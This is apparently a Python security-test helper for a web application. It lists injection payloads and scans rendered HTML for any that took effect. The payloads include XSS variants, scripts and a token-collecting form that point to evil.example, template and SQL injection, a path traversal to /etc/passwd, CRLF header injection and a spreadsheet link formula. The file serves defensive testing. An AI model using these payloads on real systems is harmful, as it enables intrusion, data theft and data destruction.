"""What somebody who writes reports, names files or types addresses may try, and how a page shows that it worked."""

from lxml import html

ATTACKS = (
    "<script>document.title='owned'</script>",
    "</title><script>document.title='owned'</script>",
    "</textarea></select></style><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=document.title="owned">',
    "'><svg onload=document.title='owned'>",
    '" autofocus onfocus="document.title=`owned`" x="',
    '" hx-get="//evil.example/x" hx-trigger="load" hx-on:load="document.title=`owned`" x="',
    "<b hx-post=//evil.example/x hx-trigger=load></b><hx-partial hx-target=body>owned</hx-partial>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<a href=\"javascript:document.title='owned'\">a link</a>",
    "javascript:document.title='owned'",
    "data:text/html,<script>document.title='owned'</script>",
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "<form action=//evil.example><input name=token>",
    "<math><mtext></p><script>document.title='owned'</script>",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "{{ 7919 * 7907 }}{% for x in () %}{% endfor %}${7919*7907}#{7919*7907}<%= 7919*7907 %>",
    "%3Cscript%3Edocument.title='owned'%3C/script%3E",
    "\u202e<script>document.title='owned'</script>\u202c\u2066",
    "\x07\x1b[31m\x01<script>document.title='owned'</script>\x7f",
    '=HYPERLINK("//evil.example")',
    "'; DROP TABLE report; --",
    "..\\..\\../../etc/passwd",
    "\r\nset-cookie: owned=1\r\n\r\n<script>document.title='owned'</script>",
)
_SCRIPTS = {"/static/theme.js", "/static/htmx/htmx.min.js", "/static/desk.js", "/static/drop.js"}
_ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post", "hx-action"}
_NEVER = {"iframe", "object", "embed", "base", "math", "img", "style", "frame", "applet", "audio", "video"}


def effects(page: str) -> list[str]:
    """What in a page would run, load or lead elsewhere, and is none of the desk's own."""
    found = []
    for node in html.document_fromstring(page).iter():
        if not isinstance(node.tag, str):
            continue
        if node.tag in _NEVER or (node.tag == "script" and node.get("src") not in _SCRIPTS):
            found.append(f"<{node.tag}>")
        if node.tag == "meta" and (node.get("http-equiv") or "").casefold() == "refresh" and node.get("content") != "2":
            found.append("<meta refresh>")
        found += [f"{node.tag} {name}={value}" for name, value in node.attrib.items() if _works(name, value)]
    if "62615533" in page:
        found.append("a template in a text was run")
    return found


def _works(name: str, value: str) -> bool:
    """Whether an attribute runs something, or leads out of the desk."""
    if name in _ADDRESSES:
        plain = "".join(value.split()).casefold()
        return not plain.startswith(("/", "#", "?")) or plain.startswith(("//", "/\\"))
    return name.startswith(("on", "hx-on")) or name in ("style", "srcdoc")
